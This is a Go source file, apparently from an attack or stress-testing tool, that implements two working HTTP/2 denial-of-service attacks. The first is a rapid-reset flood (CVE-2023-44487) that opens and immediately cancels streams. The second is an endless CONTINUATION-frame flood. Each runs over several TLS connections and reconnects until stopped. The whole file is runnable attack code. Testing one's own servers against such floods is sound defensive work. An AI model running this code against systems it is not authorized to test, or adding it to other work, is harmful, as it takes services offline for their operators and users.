package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2Dialer dials env's target over TLS offering only "h2" by ALPN; a
// connection whose server did not choose it is an error.
func h2Dialer(env Env) func(context.Context) (net.Conn, error) {
	env.TLS = env.TLS.Clone()
	env.TLS.NextProtos = []string{"h2"}
	return func(ctx context.Context) (net.Conn, error) {
		nc, err := dial(ctx, env, true)
		if err != nil {
			return nil, err
		}
		if p := nc.(*tls.Conn).ConnectionState().NegotiatedProtocol; p != "h2" {
			nc.Close()
			return nil, fmt.Errorf("attack: the target chose %q, not h2", p)
		}
		return nc, nil
	}
}

// requestBlock is the HPACK block of GET / on the target.
func requestBlock(extra ...hpack.HeaderField) []byte {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: "attack"}, {Name: ":path", Value: "/"},
	}, extra...) {
		_ = enc.WriteField(f)
	}
	return b.Bytes()
}

// h2Flood runs n clients, each sending on one HTTP/2 connection at a
// time (after the preface and empty settings, the target's frames read and
// dropped) until a send fails, then on a new one, until ctx ends; conn
// makes a connection's sender (its stream IDs are its own).
func h2Flood(ctx context.Context, env Env, n int, conn func() func(fr *http2.Framer) error) error {
	return connLoop(ctx, n, 0, h2Dialer(env), func(ctx context.Context, nc net.Conn) error {
		drained := make(chan struct{})
		go func() {
			defer close(drained)
			_, _ = io.Copy(io.Discard, nc)
		}()
		defer func() {
			nc.Close()
			<-drained
		}()
		if _, err := io.WriteString(nc, http2.ClientPreface); err != nil {
			return nil
		}
		fr := http2.NewFramer(nc, nc)
		if fr.WriteSettings() != nil {
			return nil
		}
		send := conn()
		for ctx.Err() == nil {
			if send(fr) != nil {
				break
			}
		}
		return nil
	})
}

// rapidReset: streams opened and cancelled at once (CVE-2023-44487), each
// making the target start a request and drop it.
func rapidReset() Attack {
	block := requestBlock()
	return Attack{
		Name:  "rapid-reset",
		About: "4 HTTP/2 connections each opening streams of GET / and resetting them at once",
		TLS:   true,
		Run: func(ctx context.Context, env Env) error {
			return h2Flood(ctx, env, 4, func() func(*http2.Framer) error {
				id := uint32(1)
				return func(fr *http2.Framer) error {
					err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
					if err == nil {
						err = fr.WriteRSTStream(id, http2.ErrCodeCancel)
					}
					id += 2
					return err
				}
			})
		},
	}
}

// continuationFlood: a stream's header block that never ends: HEADERS
// without END_HEADERS, then CONTINUATION frames of new fields, endlessly.
func continuationFlood() Attack {
	field := requestBlock(hpack.HeaderField{Name: "x-flood", Value: strings.Repeat("a", 1000)})
	return Attack{
		Name:  "continuation-flood",
		About: "4 HTTP/2 connections each sending a header block of endless CONTINUATION frames",
		TLS:   true,
		Run: func(ctx context.Context, env Env) error {
			return h2Flood(ctx, env, 4, func() func(*http2.Framer) error {
				started := false
				return func(fr *http2.Framer) error {
					if !started {
						started = true
						return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: field, EndStream: true})
					}
					return fr.WriteContinuation(1, false, field)
				}
			})
		},
	}
}
